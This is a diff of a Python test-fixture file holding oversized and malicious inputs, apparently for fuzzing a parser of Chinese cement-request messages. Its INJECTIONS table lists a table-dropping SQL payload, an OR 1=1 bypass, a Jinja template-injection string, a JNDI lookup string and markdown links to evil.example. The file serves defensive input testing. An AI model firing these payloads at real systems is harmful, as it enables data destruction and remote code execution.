@@ -13,7 +13,7 @@ SIZES: Final = {
     "one thing of a thousand words": "申购水泥，" + "红的" * 1_000,
     "a thousand lines": "领42.5水泥\n" * 800,
     "five thousand mentions": " ".join(f"@u{n}" for n in range(5_000)),
-    "a thousand mentions": "领水泥 " + " ".join(f"@u{n}" for n in range(900)),
+    "a thousand mentions": "领水泥 " + " ".join(f"@p{n}" for n in range(900)),
     "one endless number": "领水泥" + "9" * 5_900 + "包",
     "blanks without end": "领水泥" + " " * 5_900 + "包",
     "brackets without end": "领水泥 " + "(" * 5_900,
@@ -44,7 +44,7 @@ UNICODE: Final = {
 INJECTIONS: Final = {
     "sql": "'; DROP TABLE move; --",
     "sql or": '" OR 1=1 --',
-    "jinja": "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
+    "jinja": "{{7*191}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
     "format": "%s %n %(x)s {0} {0.__class__} ${jndi:ldap://x}",
     "markdown link": "[点我](http://evil.example/x)",
     "markdown image": "![图](http://evil.example/x.png)",
